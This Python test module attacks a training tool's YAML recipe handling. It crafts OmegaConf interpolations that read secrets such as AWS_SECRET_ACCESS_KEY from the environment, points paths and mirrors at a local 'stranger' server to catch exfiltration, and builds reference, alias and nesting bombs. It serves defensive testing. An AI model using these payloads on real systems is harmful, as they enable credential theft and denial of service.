"""Rows 2 and 4: recipes and overrides that read the environment, send things away, or explode."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import mirror_store  # noqa: F401 - makes slow:// known, a bucket on this machine
import yaml

from benchmarks.attack_stage import GIB, SECRETS, Stage, attack
from benchmarks.fuzz_seeds import TRAIN

AWS = "AWS_SECRET_ACCESS_KEY"
SECONDS = 2.0  # of CPU for a recipe that is refused; an honest one is read in 0.03 s


def _recipe(stage: Stage, more: str = "", but: str = "") -> Path:
    """A recipe of a short training, with the YAML ``more`` merged into its end."""
    tree: dict[str, object] = {}
    for override in TRAIN.format(data=stage.table).replace("max_steps=4", "max_steps=2").split():
        key, _, value = override.partition("=")
        if but and key.startswith(but):
            continue
        node = tree
        *parents, last = key.split(".")
        for name in parents:
            node = node.setdefault(name, {})  # type: ignore[assignment]
        node[last] = yaml.safe_load(value)
    for key, value in (yaml.safe_load(more) or {}).items():
        if isinstance(value, dict) and isinstance(tree.get(key), dict):
            tree[key] |= value  # type: ignore[operator]
        else:
            tree[key] = value
    text = yaml.safe_dump(tree, sort_keys=False, allow_unicode=True, width=10**9)
    return stage.write("recipe.yaml", text)


# --- row 2: secrets

_LEAKS = {
    "the licence of the data": "hub: {data_licence: 'CC BY ${oc.env:AWS_SECRET_ACCESS_KEY,}'}",
    "without a default": "hub: {data_licence: '${oc.env:AWS_SECRET_ACCESS_KEY}'}",
    "spaces in the resolver": "hub: {data_licence: '${ oc.env : AWS_SECRET_ACCESS_KEY }'}",
    "oc.decode around oc.env": "hub: {data_licence: 'x ${oc.decode:${oc.env:DATABASE}}'}",
    "oc.select": "hub: {data_licence: '${oc.select:nothing,${oc.env:AWS_SECRET_ACCESS_KEY}}'}",
    "oc.create": "hub: {data_licence: 'x ${oc.dict.keys:${oc.create:{${oc.env:DATABASE}: 1}}}'}",
    "the default of another variable": "hub: {data_licence: '${oc.env:NO,${oc.env:DATABASE}}'}",
    "the name of the recipe": "recipe: 'r-${oc.env:DATABASE}'",
    "a reference to a leak": "recipe: '${oc.env:DATABASE}'\nhub: {data_licence: '${recipe}'}",
    "the name of a column": "data: {timestamp_column: '${oc.env:DATABASE}'}",
    "a list": "data: {features: ['${oc.env:DATABASE}', t2m]}",
    "a list of trackers": "train: {trackers: ['${oc.env:DATABASE}']}",
    "a number": "seed: '${oc.env:DATABASE}'",
    "a list of expectations": "expectations: [{epoch: '${oc.env:DATABASE}'}]",
    "a key": "'${oc.env:DATABASE}': 1",
    "the key of a part": "model: {'${oc.env:DATABASE}': 1}",
    "a whole part": "model: '${oc.env:DATABASE}'",
    "a path that is not there": "data: {path: '/nowhere/${oc.env:DATABASE}.csv'}",
    "the folder of the run": "output_dir: 'output/${oc.env:DATABASE}'",
    "a mirror": "train: {mirror: 'output/bucket-${oc.env:DATABASE}'}",
    "weights to begin from": "model: {pretrained: 'org/${oc.env:DATABASE}'}",
    "a name built of references": "recipe: AWS_SECRET_ACCESS_KEY\n"
    "hub: {data_licence: '${oc.env:${recipe}}'}",
    "an escaped reference": "hub: {data_licence: '\\${oc.env:DATABASE}'}",
    "an escaped escape": "hub: {data_licence: '\\\\${oc.env:DATABASE}'}",
    "another spelling of the reference": "hub: {data_licence: \"${oc.env:'DATABASE'}\"}",
    "a loss": "loss: {alpha: '${oc.env:DATABASE}'}",
}


def leak(stage: Stage, text: str, as_overrides: bool = False) -> list[str]:
    """Train, train again by the config.yaml that was written, and publish."""
    output = stage.work / "output" / "run"
    recipe = _recipe(stage, text, but="data.path" if "path:" in text else "")
    last = [] if "output_dir" in text else [f"output_dir={output}"]
    stage.run("train", "--config", recipe, *last)
    again = output / "config.yaml"
    if again.is_file():
        more = [f"output_dir={stage.work / 'output' / 'again'}"]
        stage.run("train", "--config", again, *more)
        package = stage.work / "output" / "package"
        stage.run("publish", "--run", output, "--repo-id", "a/b", "--dry-run", package)
    return stage.harms(folders=(stage.work / "output", stage.folder / "home"))


for _title, _text in _LEAKS.items():
    attack(2, f"a recipe reads the environment: {_title}", text=_text)(leak)


@attack(2, "an override reads the environment", value="hub.data_licence=${oc.env:DATABASE}")
@attack(2, "an override in quotes", value="hub.data_licence='x ${oc.env:DATABASE}'")
@attack(2, "an override of a list", value="data.features=[${oc.env:DATABASE}]")
@attack(2, "an override of a part", value="hub={data_licence: '${oc.env:DATABASE}'}")
@attack(2, "an override of a key", value="${oc.env:DATABASE}=1")
@attack(2, "an override by oc.decode", value="seed=${oc.decode:${oc.env:DATABASE}}")
def override(stage: Stage, value: str) -> list[str]:
    recipe, output = _recipe(stage), stage.work / "output"
    stage.run("train", "--config", recipe, value, f"output_dir={output / 'run'}")
    stage.run("plan", "--config", recipe, value, "--json")
    return stage.harms(folders=(output,))


@attack(2, "prepare_data --audit reads the environment by a recipe", command="audit")
@attack(2, "plan reads the environment by a recipe", command="plan")
def other_commands(stage: Stage, command: str) -> list[str]:
    recipe = _recipe(stage, "hub: {data_licence: '${oc.env:DATABASE}'}\nrecipe: '${oc.env:MAPS}'")
    if command == "plan":
        stage.run("plan", "--config", recipe, "--json")
        stage.run("plan", "--config", recipe)
    else:
        output = stage.work / "output"
        stage.run("prepare_data", "--audit", stage.table, "--config", recipe, "--output", output)
    return stage.harms(folders=(stage.work,))


@attack(2, "a whole run is copied to a stranger's bucket by a recipe")
def mirror_of_a_stranger(stage: Stage) -> list[str]:
    bucket = stage.folder / "home" / "bucket"
    recipe = _recipe(stage, f"train: {{mirror: 'slow://{bucket}'}}")
    stage.run("train", "--config", recipe, f"output_dir={stage.work / 'output'}", cpu_seconds=25)
    sent = [path.name for path in bucket.rglob("*.safetensors")] if bucket.exists() else []
    return stage.harms() + ([f"{len(sent)} files of weights went to the bucket"] if sent else [])


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A stranger's server: its address, and the requests that came."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(f"{self.path} {self.headers}")
            self.send_response(404)
            self.end_headers()

        do_POST = do_PUT = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", requests
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@attack(2, "the series of a recipe is a stranger's address", text="data: {{path: '{at}/x.csv'}}")
@attack(2, "its ONI file is one", text="data: {{oni_path: '{at}/oni.txt'}}")
@attack(2, "its mirror is one", text="train: {{mirror: '{at}/bucket'}}")
@attack(2, "its address holds a secret", text="data: {{path: '{at}/${{oc.env:DATABASE}}.csv'}}")
@attack(2, "its mirror's holds a secret", text="train: {{mirror: '{at}/${{oc.env:DATABASE}}'}}")
def stranger_is_asked(stage: Stage, text: str) -> list[str]:
    """A recipe may not make this machine speak to others, and never with a secret."""
    with listening() as (address, requests):
        recipe = _recipe(stage, text.format(at=address), but="data.path" if " path" in text else "")
        stage.run("train", "--config", recipe, f"output_dir={stage.work / 'output'}")
    given = [name for name, value in SECRETS.items() if any(value in one for one in requests)]
    found = [f"{name} went to a stranger" for name in given]
    return stage.harms() + found + [f"a stranger was asked: {one[:60]}" for one in requests[:1]]


@attack(2, "honest: plain references")
def plain_references(stage: Stage) -> list[str]:
    recipe = _recipe(stage, "recipe: mine\nmodel: {intermediate_size: '${model.hidden_size}'}")
    ended = stage.run("train", "--config", recipe, "output_dir=output/${recipe}")
    is_done = (stage.work / "output" / "mine" / "results.json").exists()
    return stage.harms() + ([] if is_done else [f"refused: {ended.stderr[-200:]}"])


# --- row 4: bombs


_STRINGS = (  # keys of text that a chain of references can use
    "recipe hub.repo_id hub.data_licence data.timestamp_column data.region_column "
    "data.precipitation_column data.label_column data.oni_path train.mirror model.pretrained "
    "data.directions data.precipitation_unit data.split model.pooling model.hidden_act "
    "train.precision train.resume loss.name monitors.slow monitors.memory monitors.target"
).split()


def chain_of_references(levels: int, each: int) -> str:
    """Known keys of text, each ``each`` times the one before."""
    tree: dict[str, object] = {}
    before = "x" * 10
    for key in _STRINGS[:levels]:
        node = tree
        *parents, last = key.split(".")
        for name in parents:
            node = node.setdefault(name, {})  # type: ignore[assignment]
        node[last] = before
        before = f"${{{key}}}" * each
    tree["output_dir"] = before
    return yaml.safe_dump(tree, width=10**9)


def _nested(levels: int, before: str, after: str, inner: str) -> str:
    return before * levels + inner + after * levels


def _aliases(levels: int, each: int = 9) -> str:
    lines = ["expectations:", "  - &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels):
        lines.append(f"  - &a{i} [{', '.join([f'*a{i - 1}'] * each)}]")
    return "\n".join(lines)


BOMBS = {
    **{f"{n} levels of 2": chain_of_references(n, 2) for n in (12, 16, 21)},
    **{f"{n} levels of {k}": chain_of_references(n, k) for n, k in ((9, 6), (6, 20), (4, 200))},
    "10,000 references in a value": "recipe: x\nhub: {data_licence: '"
    + "${recipe}" * 10_000
    + "'}",
    "100,000 references in a list": "data: {features: ["
    + ", ".join(["'${recipe}'"] * 20_000)
    + "]}",
    "a long text a thousand times": f"recipe: {'x' * 50_000}\n"
    f"hub: {{data_licence: '{'${recipe}' * 1000}'}}",
    "300 resolvers in each other": "hub: {data_licence: '"
    + _nested(300, "${oc.decode:", "}", "1")
    + "'}",
    "5,000 resolvers in each other": "hub: {data_licence: '"
    + _nested(5000, "${oc.decode:", "}", "1")
    + "'}",
    "300 references in each other": f"hub: {{data_licence: '{_nested(300, '${', '}', 'recipe')}'}}",
    "a reference to itself": "recipe: '${recipe}'",
    "a cycle of two": "recipe: '${hub.repo_id}'\nhub: {repo_id: '${recipe}'}",
    "a cycle of parts": "model: '${data}'\ndata: '${model}'",
    "a relative reference to itself": "hub: {data_licence: '${.data_licence}'}",
    "relative references that double": "hub: {repo_id: 'xx', data_licence: '"
    + "${.repo_id}${..recipe}" * 3000
    + "'}",
    "a chain of relative references": "hub: {data_licence: '${....................recipe}'}",
    "the whole configuration in a value": "hub: {data_licence: '${..}'}",
    "a part in itself": "data: {synthetic: '${data}'}",
    "a list in its items": "data: {features: ['${data.features}', '${data.features}']}",
    "aliases of YAML": _aliases(9),
    "aliases in a mapping": "data: &d\n  features: &f [a, *f]\n",
    "merge keys of YAML": "a: &a {x: 1}\n"
    + "\n".join(f"b{i}: &b{i} {{<<: [{', '.join(['*a'] * 500)}]}}" for i in range(200)),
    "an anchor in each other": "hub: &h {data_licence: *h}",
    "5,000 levels of lists": f"data: {{features: {'[' * 5000}{']' * 5000}}}",
    "5,000 levels of mappings": f"data: {'{a: ' * 5000}1{'}' * 5000}",
    "a quoted brace without end": "hub: {data_licence: '" + "${" * 20_000 + "'}",
    "escapes before a brace": "hub: {data_licence: '" + "\\\\" * 40_000 + "${recipe}'}",
    "a resolver with 20,000 arguments": "hub: {data_licence: '${oc.create:["
    + ",".join(["1"] * 20_000)
    + "]}'}",
    "dictionaries in a resolver": "hub: {data_licence: '${oc.create:"
    + _nested(200, "{a:", "}", "1")
    + "}'}",
    "unbalanced quotes in a resolver": 'hub: {data_licence: "${oc.decode:' + "'" * 20_001 + '}"}',
}


def bomb(stage: Stage, text: str) -> list[str]:
    path = stage.write("recipe.yaml", text)
    stage.run("plan", "--config", path, "--json", cpu_seconds=SECONDS, peak_bytes=GIB // 4)
    return stage.harms()


for _title, _text in BOMBS.items():
    attack(4, _title, text=_text)(bomb)


@attack(4, "a bomb by overrides", levels=20, each=2)
@attack(4, "a wide bomb by overrides", levels=5, each=60)
def override_bomb(stage: Stage, levels: int, each: int) -> list[str]:
    given, before = [], "x" * 10
    for key in _STRINGS[:levels]:
        given.append(f"{key}={before}")
        before = f"${{{key}}}" * each
    given.append(f"hub.data_licence={before}")
    arguments = ("--config", "quickstart", "--json", *given)
    stage.run("plan", *arguments, cpu_seconds=SECONDS, peak_bytes=GIB // 4)
    return stage.harms()


@attack(4, "a bomb by config.yaml of a run that is gone on with")
def bomb_in_a_run(stage: Stage) -> list[str]:
    run = stage.copy("cut_off", "output/run")
    (run / "config.yaml").write_text(chain_of_references(21, 2))
    arguments = TRAIN.format(data=stage.table).split()
    given = ("--config", "quickstart", *arguments, f"output_dir={run}")
    stage.run("train", *given, peak_bytes=GIB // 2)
    stage.run("report", run, cpu_seconds=6)
    stage.run("publish", "--run", run, "--repo-id", "a/b", "--dry-run", stage.work / "p")
    stage.run("diagnose", run, "--json", cpu_seconds=SECONDS)
    return stage.harms()


@attack(4, "a bomb in the regions of prepare_data")
def bomb_of_regions(stage: Stage) -> list[str]:
    path = stage.write("regions.yaml", _aliases(9).replace("expectations", "regions"))
    output = stage.work / "output"
    era5 = stage.seeds / "era5.nc"
    stage.run("prepare_data", era5, "--regions", path, "--output", output, cpu_seconds=SECONDS)
    return stage.harms()


@attack(4, "honest: forty references", each=20)
def honest_references(stage: Stage, each: int) -> list[str]:
    text = f"recipe: mine\nhub: {{data_licence: '{'${recipe} ' * each}'}}"
    path = _recipe(stage, text)
    ended = stage.run("plan", "--config", path, "--json")
    return stage.harms() + ([] if ended.code == 0 else [f"refused: {ended.stderr[-200:]}"])
